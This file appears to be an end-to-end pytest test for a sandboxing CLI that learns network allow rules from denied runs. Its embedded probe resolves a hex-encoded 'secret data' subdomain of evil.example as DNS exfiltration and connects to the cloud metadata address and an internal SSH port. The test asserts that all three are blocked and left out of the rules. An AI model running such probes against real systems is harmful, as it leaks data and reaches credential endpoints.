"""A run that is refused teaches a rule file what to grant, and nothing of what it should not."""

import shutil
import subprocess

import pytest

pytestmark = [pytest.mark.root, pytest.mark.e2e]

PROBE = r"""
import socket
for name in ("pypi.org", "files.pythonhosted.org", "api.example", "6d79207365637265742064617461206973.evil.example"):
    try:
        socket.getaddrinfo(name, 443)
        print("resolved", name)
    except OSError:
        pass
for address in (("169.254.169.254", 80), ("10.0.0.1", 22), ("203.0.113.9", 8443)):
    s = socket.socket()
    s.settimeout(5)
    try:
        s.connect(address)
        s.sendall(b"GET / HTTP/1.1\r\nHost: claimed.example\r\n\r\n")
        print(s.recv(12))
    except OSError:
        pass
"""


def test_denied_then_learnt_then_read_then_applied(cli, tmp_path):
    ran = cli("run", "--quiet", "--", "python3", "-c", PROBE)
    assert ran.code == 0, ran.err
    assert "resolved" not in ran.out
    mine = tmp_path / "mine.toml"
    before = '# mine\n[[allow]]\nhost = "b.example"\n'
    mine.write_text(before)
    diff = cli("rules", "learn", "--rules", mine).out
    assert mine.read_text() == before
    for line in ('+bundles = ["pypi"]', '+host = "api.example"', '+cidr = "203.0.113.9"', "+ports = [8443]"):
        assert line in diff.splitlines()
    assert "asked" in diff
    assert "by step e0/0" in diff
    for piece in (
        "evil.example: its name looks like data",
        "169.254.169.254:80: it is a metadata",
        "10.0.0.1:22: it is",
    ):
        assert f"# left out: {'6d79207365637265742064617461206973.' if 'evil' in piece else ''}{piece}" in diff
    if shutil.which("patch") is None:
        pytest.skip("no patch(1) here, so the diff was only read")
    subprocess.run(["patch", "-s", "-p0", "-d", "/"], input=diff, text=True, check=True)
    assert cli("rules", "check", mine).code == 0
    for target, code in (
        ("https://pypi.org/simple/x/", 0),
        ("api.example:443", 0),
        ("203.0.113.9:8443", 0),
        ("claimed.example:8443", 1),
        ("169.254.169.254:80", 1),
        ("10.0.0.1:22", 1),
    ):
        assert cli("rules", "explain", mine, target).code == code, target
    assert cli("rules", "learn", "--from", "used").out == ""
